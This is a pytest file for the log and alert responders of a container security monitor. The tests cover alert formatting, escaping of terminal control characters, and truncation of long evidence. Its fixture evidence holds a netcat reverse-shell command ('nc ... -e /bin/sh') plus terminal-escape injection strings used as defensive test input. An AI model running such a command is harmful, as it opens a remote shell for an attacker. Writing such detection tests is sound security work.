"""Log and alert responders."""

from __future__ import annotations

import io
import time

import pytest

from coi_watch.protocols import Responder
from coi_watch.responders.log import AlertResponder, LogResponder, alert_line
from coi_watch.verdicts import Action, Severity, Verdict


def verdict(**kw: object) -> Verdict:
    base: dict[str, object] = {
        "ts_ns": 1_000_000,
        "wall_ns": time.time_ns(),
        "container": "coi-dev",
        "detector": "reverse_shell",
        "title": "shell with socket stdio",
        "severity": Severity.HIGH,
        "evidence": {"pid": 4242, "cmd": "nc 198.18.0.1 4444 -e /bin/sh"},
        "dedup_key": "reverse_shell:4242",
    }
    base.update(kw)
    return Verdict(**base)  # type: ignore[arg-type]


def test_they_are_responders() -> None:
    assert isinstance(LogResponder(), Responder)
    assert isinstance(AlertResponder(), Responder)
    assert (LogResponder.name, LogResponder.action) == ("log", Action.LOG)
    assert (AlertResponder.name, AlertResponder.action) == ("alert", Action.ALERT)


async def test_log_only_says_done(capsys: pytest.CaptureFixture[str]) -> None:
    rec = await LogResponder({}, clock=lambda: 3_500_000).respond(verdict())
    assert (rec.action, rec.status, rec.error) == (Action.LOG, "done", "")
    assert (rec.container, rec.detector, rec.dedup_key) == (
        "coi-dev",
        "reverse_shell",
        "reverse_shell:4242",
    )
    assert rec.latency_ms == pytest.approx(2.5)
    assert capsys.readouterr() == ("", "")


async def test_alert_prints_one_banner_line_to_stderr(capsys: pytest.CaptureFixture[str]) -> None:
    rec = await AlertResponder().respond(verdict())
    assert (rec.action, rec.status) == (Action.ALERT, "done")
    out, err = capsys.readouterr()
    assert out == ""
    assert err == (
        "coi-watch ALERT [coi-dev] high reverse_shell: shell with socket stdio "
        "(pid=4242 cmd=nc 198.18.0.1 4444 -e /bin/sh)\n"
    )


async def test_alert_without_evidence_has_no_parentheses() -> None:
    stream = io.StringIO()
    await AlertResponder(stream=stream).respond(verdict(evidence={}, severity=Severity.WARNING))
    assert (
        stream.getvalue()
        == "coi-watch ALERT [coi-dev] warning reverse_shell: shell with socket stdio\n"
    )


def test_container_controlled_text_cannot_forge_lines_or_drive_the_terminal() -> None:
    line = alert_line(
        verdict(
            title="x\x1b[2J\ncoi-watch ALERT [other] fake",
            evidence={"cmd": "a\rb\x9bc", "args": ["-e", "/bin/sh"], "n": None},
        )
    )
    assert "\n" not in line and "\r" not in line and "\x1b" not in line and "\x9b" not in line
    assert "x\\x1b[2J\\x0acoi-watch ALERT [other] fake" in line
    assert 'cmd=a\\x0db\\x9bc args=["-e","/bin/sh"] n=null' in line


def test_long_evidence_is_bounded() -> None:
    line = alert_line(verdict(evidence={"blob": "A" * 10_000}))
    assert len(line) < 400
    assert line.endswith("…)")


async def test_a_closed_stream_is_a_failed_record() -> None:
    stream = io.StringIO()
    stream.close()
    rec = await AlertResponder(stream=stream).respond(verdict())
    assert rec.status == "failed"
    assert "closed file" in rec.error
